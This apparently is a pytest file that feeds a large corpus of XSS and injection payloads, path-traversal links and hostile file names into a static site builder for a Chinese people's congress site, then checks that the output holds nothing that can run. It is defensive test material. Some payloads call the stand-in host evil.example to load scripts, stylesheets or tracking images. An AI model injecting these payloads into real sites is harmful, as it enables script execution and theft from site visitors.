"""Hostile content: XSS and injection payloads in every place an editor (or an intruder with
an editor's access) can put text, run through the real build, and the output checked.

The payload corpus (PAYLOADS) goes into Markdown bodies, front-matter fields shown on pages
(titles, summaries, speaker names and titles, reporters, columns, authors, places, handlers),
topic names, site.yaml texts, file names and slugs. The output must then hold no script but
the site's own, no event handler, no javascript:/vbscript:/data: URL, no inline style (the
pages' Content-Security-Policy forbids them), no frame, object, base or refresh, well-formed
JSON-LD that cannot close its <script>, well-formed feeds, and CSV cells that cannot run as
formulas. tests/browser/test_hostile_browser.py loads the same output in Chromium and
proves nothing runs. Symlinks under content/ or media/ leading outside the site are refused.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path
from typing import Iterator

import pytest
from lxml import etree
from lxml import html as lxml_html



from tests.conftest import run_build, tiny_png, write_site

# Each payload, if it ever ran, would call alert/console or reach evil.example: the browser test
# counts those. Numbered, so a failure names the payload.
PAYLOADS: list[str] = [
    # script tags in every disguise
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<script\x0c>alert(4)</script>",
    "<script/xss>alert(5)</script>",
    "</title><script>alert(6)</script>",
    "</textarea></noscript></style><script>alert(7)</script>",
    '"><script>alert(8)</script>',
    "'><script>alert(9)</script>",
    "</script><script>alert(10)</script>",
    # event handlers
    "<img src=/media/x.png onerror=alert(11)>",
    "<svg onload=alert(12)>",
    "<body onload=alert(13)>",
    "<input autofocus onfocus=alert(14)>",
    "<details open ontoggle=alert(15)>",
    '<div onmouseover="alert(16)">悬停</div>',
    "<video><source onerror=alert(17)></video>",
    "<audio src=/media/x.png onerror=alert(18)>",
    '<img src=/media/x.png onerror="&#97;&#108;&#101;&#114;&#116;(19)">',
    "{: onclick=\"alert(20)\" }",
    # javascript:, vbscript: and data: URLs
    '<a href="javascript:alert(21)">点我</a>',
    "[点我](javascript:alert(22))",
    "[点我](JaVaScRiPt:alert(23))",
    '<a href="jav&#x09;ascript:alert(24)">点我</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(25)">点我</a>',
    "[点我](<javascript:alert(26)>)",
    '<a href="vbscript:msgbox(27)">点我</a>',
    "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgyOCk8L3NjcmlwdD4=)",
    "![图](javascript:alert(29))",
    '<iframe src="javascript:alert(30)"></iframe>',
    "<iframe srcdoc=\"<script>alert(31)</script>\"></iframe>",
    '<object data="data:text/html,<script>alert(32)</script>"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMzMpPjwvc3ZnPg==">',
    '<form action="javascript:alert(34)"><button>提交</button></form>',
    '<button formaction="javascript:alert(35)">提交</button>',
    # SVG and MathML
    "<svg><script>alert(36)</script></svg>",
    '<svg><a xlink:href="javascript:alert(37)"><text x="0" y="20">点</text></a></svg>',
    "<svg><animate onbegin=alert(38) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=/media/x.png onerror=alert(39)>",
    # CSS expressions and style
    '<div style="background:url(javascript:alert(40))">背景</div>',
    '<div style="width: expression(alert(41))">表达式</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<td style="text-align:center;background:url(https://evil.example/t.png)">单元格</td>',
    # documents taken over
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(46)">',
    '<a href="https://evil.example/" ping="https://evil.example/ping">外链</a>',
    '<img srcset="https://evil.example/a.png 1x">',
    "![远程图](https://evil.example/track.png)",
    # HTML entities and Unicode tricks
    "&lt;script&gt;alert(50)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(51)\uff1c/script\uff1e",
    '<a href="https://example.gov.cn/\u202e" title="\u202ejavascript:alert(52)">反转</a>',
    "<img src=/media/x.png onerror=\\u0061lert(53)>",
    '<noscript><p title="</noscript><img src=/media/x.png onerror=alert(54)>">',
    '<!--<img src="--><img src=/media/x.png onerror=alert(55)//">',
    "<![CDATA[<script>alert(56)</script>]]>",
    '<img src=/media/x.png alt="` `<script>alert(57)</script>"` `>',
    "{{ 7*7 }}{% raw %}<script>alert(58)</script>{% endraw %}",
    "\u2028<script>alert(59)</script>\u2029",
    "<<script>script>alert(60)//<</script>/script>",
]

# Ones the build refuses outright (a link it cannot resolve is an error naming the file): also safe.
REFUSED_PAYLOADS = [
    # links out of the site's folder: nothing there is published (an error naming the file and line)
    "[上级](../../../../etc/passwd)",
    "[编码](%2e%2e/%2e%2e/%2e%2e/etc/passwd)",
    '<a href="\u202ejavascript:alert(61)">反转</a>',
    '<a href="&#8238;javascript:alert(62)">反转</a>',
    '[反转](\u202e../voices/v00.md)',
    "![图](../../media/none.png)",
    "[缺](../voices/missing.md)",
]

# A payload made for a plain-text field (title, name …): what a template prints.
FIELD_PAYLOADS = [p for p in PAYLOADS if not re.search("[\x00-\x1f]", p)]  # a "\f" escape in YAML is an error

SITE_YAML = """\
title: '区人大<script>alert("site-title")</script>'
description: '"><img src=/media/x.png onerror=alert("description")>'
base_url: https://example.gov.cn/renda/
language: zh-CN
topics:
  - 医疗卫生
  - '<img src=/media/x.png onerror=alert("topic")>'
  - '"onmouseover="alert(1)'
  - 'javascript:alert("topic-2")'
  - '</script><script>alert("topic-3")</script>'
footer:
  sponsor: '"><svg onload=alert("sponsor")>'
  icp: '</p><script>alert("icp")</script>'
  site_code: '"><script>alert("code")</script>'
  police: 'javascript:alert("police") 33000000000000号'
  contact: '<a href="javascript:alert(1)">联系</a>'
  error_report: 'https://example.gov.cn/"><script>alert("error-report")</script>'
"""


def _q(text: str) -> str:
    """A YAML double-quoted scalar holding `text` exactly."""
    return json.dumps(text, ensure_ascii=False)


def hostile_files() -> dict[str, str]:
    """Every payload in a body, and in the front-matter fields that pages show."""
    files: dict[str, str] = {
        "content/sessions/1-1.md": f"---\ntitle: {_q('第一次会议' + PAYLOADS[0])}\nstart: 2021-01-05\nend: 2021-01-08\n"
                                   f"place: {_q(PAYLOADS[10])}\n---\n" + "\n\n".join(PAYLOADS[:20]) + "\n",
        "content/deputies/zhou.md": f"---\nname: {_q('周道杨' + PAYLOADS[11])}\nrole: 人大代表\n"
                                    f"occupation: {_q(PAYLOADS[12])}\nparty: {_q(PAYLOADS[5])}\n"
                                    f"constituency: {_q(PAYLOADS[7])}\ntopics: ['<img src=/media/x.png onerror=alert(\"topic\")>']\n"
                                    f"---\n{PAYLOADS[20]}\n",
        "content/reports/r.md": f"---\ntitle: {_q(PAYLOADS[8])}\ndate: 2021-01-06\nsubtitle: {_q(PAYLOADS[9])}\n"
                                f"speaker: {_q(PAYLOADS[13])}\nsummary: {_q(PAYLOADS[14])}\n---\n## 标题{PAYLOADS[15]}\n\n"
                                + "\n\n".join(PAYLOADS[20:40]) + "\n",
        "content/news/n.md": f"---\ntitle: {_q(PAYLOADS[16])}\ndate: 2021-01-07\ncolumn: {_q(PAYLOADS[17])}\n"
                             f"author: {_q(PAYLOADS[18])}\nsession: 1-1\n---\n" + "\n\n".join(PAYLOADS[40:]) + "\n",
        "content/pages/about.md": f"---\ntitle: {_q('关于' + PAYLOADS[6])}\norder: 1\n---\n"
                                  "| 左 | 中 | 右 |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n",
        "content/suggestions/s1.md": f"---\ntitle: {_q('建议' + PAYLOADS[1])}\nsession: 1-1\nnumber: 1\n"
                                     f"deputies: [zhou]\nstatus: 已答复\nhandler: [{_q(PAYLOADS[2])}]\nanswered: 2021-03-01\n"
                                     f"result: A\nsatisfaction: 满意\n---\n{PAYLOADS[3]}\n\n## 答复\n\n{PAYLOADS[4]}\n",
    }
    for n in range(0, len(FIELD_PAYLOADS), 3):  # three payloads a voice: each in a title, a speaker, the body
        a, b, c = (FIELD_PAYLOADS + FIELD_PAYLOADS)[n:n + 3]
        kind = ("代表", "市民")[n % 2]
        speaker = "zhou" if kind == "代表" else _q(b)
        files[f"content/voices/v{n:02d}.md"] = (
            f"---\ntitle: {_q(f'心声{n}' + a)}\nsession: 1-1\nkind: {kind}\nspeaker: {speaker}\n"
            f"speaker_title: {_q(c)}\nreporter: {_q(b)}\nsummary: {_q(c)}\n"
            f"topics: [医疗卫生, {_q(SITE_TOPICS[n % len(SITE_TOPICS)])}]\n---\n{a}\n\n{b}\n\n{c}\n\n正文。\n")
    # payloads as file names: the id appears in data and messages, the URL is made from it
    for n, name in enumerate(['<img src=/media/x.png onerror=alert("file")>', '"><svg onload=alert("file2")>',
                              "javascript:alert('file3')", "..%2f..%2fetc%2fpasswd", "%3Cscript%3E"]):
        files[f"content/news/{name}.md"] = f"---\ntitle: 文件名{n}\ndate: 2021-01-0{n + 1}\n---\n正文。\n"
    return files


SITE_TOPICS = ['<img src=/media/x.png onerror=alert("topic")>', '"onmouseover="alert(1)', 'javascript:alert("topic-2")',
               '</script><script>alert("topic-3")</script>']


def build_hostile_site(root: Path) -> tuple[Path, Path, str]:
    """Write and build the hostile site; returns (site, output, the build's stderr)."""
    files = {rel: text.encode("utf-8") for rel, text in hostile_files().items()}
    files["media/x.png"] = PNG
    site = write_site(root / "site", files, site_yaml=SITE_YAML)
    out = root / "out" / "public"
    result = run_build(site, out=out)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    return site, out, result.stderr


PNG = tiny_png()  # a real image: media/ images must be what their name says (images.py)


def payload_count() -> int:
    """How many payload placements the hostile site holds (for the report)."""
    return sum(text.count("alert(") + text.count("evil.example") for text in hostile_files().values()) \
        + SITE_YAML.count("alert(") + len(REFUSED_PAYLOADS)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, Path, str]:
    return build_hostile_site(tmp_path_factory.mktemp("hostile"))


# -- what the output may hold ---------------------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "{http://www.w3.org/1999/xlink}href",
                  "srcset", "poster", "data", "background", "ping", "cite", "longdesc", "dynsrc", "lowsrc"}
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|livescript|mocha):", re.I)
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "svg:script",
                  "portal", "noembed", "xmp", "plaintext"}
SITE_ASSET = re.compile(r"^((\.\./)*|/renda/)static/[a-z]+\.(js|css)\?v=[0-9a-f]+$")  # the theme's own files


def _clean_url(value: str) -> str:
    """A URL as a browser reads its scheme: entities decoded by the parser, blanks and controls dropped."""
    return re.sub(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]", "", value).lower()


def unsafe_markup(path: Path) -> list[str]:
    """Everything in one HTML page that could run script, load from elsewhere or break the CSP."""
    data = path.read_bytes()
    found: list[str] = []
    doc = lxml_html.document_fromstring(data)
    csp = doc.xpath("//meta[@http-equiv='Content-Security-Policy']")
    if len(csp) != 1 or "default-src 'self'" not in csp[0].get("content", ""):
        found.append("no Content-Security-Policy meta")
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue  # comments, processing instructions
        tag = el.tag.lower()
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        if tag == "script":
            if el.get("type") == "application/ld+json":
                text = el.text or ""
                if "<" in text:
                    found.append("JSON-LD with a raw <")
                json.loads(text)
            elif not SITE_ASSET.match(el.get("src", "")) or (el.text or "").strip():
                found.append(f"script {el.get('src')!r} {el.text!r}")
        if tag == "meta" and el.get("http-equiv", "").lower() not in ("", "content-security-policy"):
            found.append(f"meta http-equiv={el.get('http-equiv')}")
        if tag == "link" and (el.get("rel") or "") == "stylesheet" and not SITE_ASSET.match(el.get("href") or ""):
            found.append(f"stylesheet {el.get('href')}")
        for name, value in el.attrib.items():
            lname = name.lower()
            if lname.startswith("on"):
                found.append(f"<{tag} {name}=…>")
            if lname == "style":
                found.append(f"<{tag} style=…>")
            if lname in URL_ATTRIBUTES and BAD_SCHEME.match(_clean_url(value)):
                found.append(f"<{tag} {name}={value[:40]!r}>")
            if lname in URL_ATTRIBUTES and tag in ("img", "source", "video", "audio", "track") \
                    and re.match(r"^(https?:)?//", _clean_url(value)):
                found.append(f"<{tag} {name}> from another site: {value[:60]}")
    lowered = data.lower()
    for needle in (b"<script>alert", b"<script src=https://evil", b"<img src=/media/x.png onerror", b"<svg onload"):
        if needle in lowered:
            found.append(f"raw {needle!r}")
    return found


def html_pages(out: Path) -> list[Path]:
    return sorted(out.rglob("*.html"))


def test_the_corpus_is_big_enough():
    assert len(PAYLOADS) >= 40
    assert payload_count() >= 40


def test_no_page_holds_anything_that_could_run(hostile):
    site, out, _ = hostile
    pages = html_pages(out)
    assert len(pages) > 30
    problems = {p.relative_to(out).as_posix(): unsafe_markup(p) for p in pages}
    assert {k: v for k, v in problems.items() if v} == {}


def test_payloads_show_as_text(hostile):
    """Escaped, not dropped: a title with markup in it reads as the editor wrote it."""
    _, out, _ = hostile
    page = lxml_html.fromstring((out / "sessions" / "1-1" / "index.html").read_bytes())
    assert page.xpath("string(//h1)").strip() == "第一次会议<script>alert(1)</script>"
    home = (out / "index.html").read_text(encoding="utf-8")
    assert "区人大&lt;script&gt;alert(&#34;site-title&#34;)&lt;/script&gt;" in home


def test_feeds_sitemap_and_open_data_are_well_formed_and_inert(hostile):
    _, out, _ = hostile
    xml_files = sorted(out.rglob("*.xml"))
    assert xml_files
    for path in xml_files:
        tree = etree.fromstring(path.read_bytes())
        for content in tree.iter("{http://www.w3.org/2005/Atom}content"):
            body = lxml_html.fragment_fromstring(content.text or "", create_parent="div")
            for el in body.iter():
                if isinstance(el.tag, str):
                    assert el.tag not in ("script", "iframe", "object", "embed", "style"), path
                    assert not any(k.lower().startswith("on") or k.lower() == "style" for k in el.attrib), path
                    for k, v in el.attrib.items():
                        assert not (k in URL_ATTRIBUTES and BAD_SCHEME.match(_clean_url(v))), (path, k, v)
    for path in out.rglob("*.json"):  # open data and the search index: JSON, whatever the content
        json.loads(path.read_bytes())
    csv_files = sorted(out.rglob("*.csv"))
    assert csv_files
    for path in csv_files:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            for cell in row:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (path, cell)


def test_tables_keep_their_alignment_without_inline_styles(hostile):
    _, out, _ = hostile
    page = lxml_html.fromstring((out / "about" / "index.html").read_bytes())
    cells = page.xpath("//div[contains(@class,'prose')]//th")
    assert [c.get("class") for c in cells] == ["align-left", "align-center", "align-right"]
    css = (Path(__file__).resolve().parent.parent / "static" / "site.css").read_text(encoding="utf-8")
    for side in ("left", "center", "right"):
        assert f".prose .align-{side} {{ text-align: {side}; }}" in css


def test_an_image_from_another_site_is_left_out_with_a_warning(hostile):
    _, out, stderr = hostile
    assert "content/news/n.md" in stderr and "图片 https://evil.example/track.png 在别的网站上，不会显示。" in stderr
    assert b"evil.example/track.png" not in (out / "news" / "n" / "index.html").read_bytes()


# -- slugs and file names ----------------------------------------------------------------------

@pytest.mark.parametrize("slug", ["javascript:alert(1)", "../../etc", "a/b", "<script>", "x\" onload=\"alert(1)",
                                  "%2e%2e", "UPPER", "中文"])
def test_a_hostile_slug_is_an_error_naming_the_file(tmp_path, slug):
    site = write_site(tmp_path / "site", {
        "content/pages/p.md": f"---\ntitle: 页面\nslug: {_q(slug)}\n---\n正文\n"})
    out = tmp_path / "out" / "public"
    result = run_build(site, out=out)
    assert result.returncode == 1, result.stdout
    assert "content/pages/p.md:3: 错误: 字段 slug：" in result.stderr
    assert "Traceback" not in result.stderr
    assert not out.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "site"]


@pytest.mark.parametrize("payload", REFUSED_PAYLOADS)
def test_links_the_build_cannot_resolve_are_errors_naming_the_file(tmp_path, payload):
    site = write_site(tmp_path / "site", {"content/pages/p.md": f"---\ntitle: 页面\n---\n正文\n\n{payload}\n"})
    out = tmp_path / "out" / "public"
    result = run_build(site, out=out)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert re.search(r"^content/pages/p\.md(:6)?: 错误: ", result.stderr, re.M), result.stderr
    assert not out.exists()


def test_hostile_file_names_make_safe_urls(hostile):
    _, out, _ = hostile
    for folder in (out / "news").iterdir():
        assert re.fullmatch(r"[a-z0-9-]+|page|[a-z0-9.-]+\.(xml|csv|json)|index\.html", folder.name), folder.name
    assert {p.relative_to(out).parts[0] for p in out.rglob("*")} <= {
        "index.html", "404.html", "sessions", "deputies", "voices", "reports", "news", "pages", "topics",
        "suggestions", "static", "media", "search", "feeds", "sitemap.xml", "robots.txt", "about",
        "feed.xml"}


def test_site_yaml_refuses_a_javascript_error_report_link(tmp_path):
    site = write_site(tmp_path / "site", {}, site_yaml=SITE_YAML.replace(
        "error_report: 'https://example.gov.cn/", "error_report: 'javascript:alert(1)//"))
    result = run_build(site, out=tmp_path / "out" / "public")
    assert result.returncode == 1
    assert "site.yaml:" in result.stderr and "footer.error_report" in result.stderr


# -- symlinks leading outside the site -------------------------------------------------------------

@pytest.fixture
def outside(tmp_path) -> Iterator[Path]:
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "passwd.md").write_text("---\ntitle: 机密\n---\n机密内容 SECRET-TEXT\n", encoding="utf-8")
    (secret / "key.txt").write_text("SECRET-KEY\n", encoding="utf-8")
    yield secret


@pytest.mark.parametrize("where, link, target, message", [
    ("content file", "content/pages/leak.md", "passwd.md", "content/pages/leak.md: 错误: 这个文件是指向网站文件夹之外的链接"),
    ("content folder", "content/pages/leak", ".", "content/pages/leak: 错误: 这个文件夹是指向网站文件夹之外的链接"),
    ("content section", "content/news", ".", "content/news: 错误: 这个文件夹是指向网站文件夹之外的链接"),
    ("media file", "media/key.txt", "key.txt", "media/key.txt: 错误: 这是指向网站文件夹之外（或无效）的链接"),
    ("media folder", "media", ".", "media: 错误: 这个文件夹是指向网站文件夹之外的链接"),
    ("media sub-folder", "media/docs", ".", "media/docs: 错误: 这个文件夹是指向网站文件夹之外的链接"),
])
def test_symlinks_leading_outside_the_site_are_refused(tmp_path, outside, where, link, target, message):
    site = write_site(tmp_path / "site", {"content/pages/about.md": "---\ntitle: 关于\n---\n正文\n"})
    path = site / link
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(outside / target if target != "." else outside)
    out = tmp_path / "out" / "public"
    result = run_build(site, out=out)
    assert "Traceback" not in result.stderr
    assert result.returncode == 1, f"{where}: {result.stdout}"
    assert message in result.stderr, result.stderr
    assert not out.exists()
    for dirpath, dirnames, filenames in os.walk(tmp_path):  # links are not followed: only real copies count
        dirnames[:] = [d for d in dirnames if Path(dirpath, d) != outside]
        for name in filenames:
            path = Path(dirpath, name)
            if not path.is_symlink():
                data = path.read_bytes()
                assert b"SECRET-TEXT" not in data and b"SECRET-KEY" not in data, path


def test_symlinks_inside_the_site_are_fine(tmp_path):
    site = write_site(tmp_path / "site", {"content/pages/about.md": "---\ntitle: 关于\n---\n正文\n",
                                          "media/real.txt": "附件\n"})
    (site / "media" / "alias.txt").symlink_to(site / "media" / "real.txt")
    result = run_build(site, out=tmp_path / "out" / "public")
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "out" / "public" / "media" / "alias.txt").read_text(encoding="utf-8") == "附件\n"
    assert not (tmp_path / "out" / "public" / "media" / "alias.txt").is_symlink()
